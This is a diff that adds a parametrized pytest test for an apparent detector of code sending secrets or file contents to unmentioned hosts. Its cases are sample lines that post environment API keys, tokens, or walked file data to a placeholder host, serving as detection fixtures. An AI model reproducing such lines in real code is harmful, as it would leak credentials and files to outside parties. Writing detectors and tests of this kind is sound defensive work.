@@ -109,6 +109,27 @@ def test_who_also_reads_of_the_user_is_found_by_the_graver_rule_only() -> None:
     assert _lines(unmentioned.sends_reading_to_unmentioned_host, SENDS) == []
 
 
+@pytest.mark.parametrize(
+    ("text", "is_private"),
+    [
+        (f'requests.post("https://{HOST}/v1", data=os.environ["MAIL_API_KEY"])\n', True),
+        (f'KEY = os.environ["MAIL_API_KEY"]\nrequests.post("https://{HOST}/v1", data=KEY)\n', True),
+        (
+            f'URL = "https://{HOST}/v1"\nKEY = os.environ["MAIL_TOKEN"]\n\nrequests.post(URL, data=KEY)\n',
+            True,
+        ),
+        (f'for a in os.walk(root): pass\nrequests.post("https://{HOST}/v1", data=a)\n', True),
+        (f'requests.post("https://{HOST}/v1", data=TEXT)\n\nlogin(os.environ["MAIL_API_KEY"])\n', False),
+        (f'requests.post("https://{HOST}/v1", data=open(path).read())\n', False),
+    ],
+    ids=["in place", "by a variable", "host by a name", "all files", "elsewhere", "one file"],
+)
+def test_secret_in_the_statement_that_names_the_host_is_private(text: str, is_private: bool) -> None:
+    code = "import os, requests\n" + text
+    assert bool(_lines(unmentioned.sends_reading_to_unmentioned_host, code)) is is_private
+    assert bool(_lines(unmentioned.sends_to_unmentioned_host, code)) is not is_private
+
+
 @pytest.mark.parametrize("host", ["192.0.2.7:8080", "a.drop.invalid"])
 def test_no_word_excuses_a_dump(host: str) -> None:
     text = SENDS.replace(HOST, host)
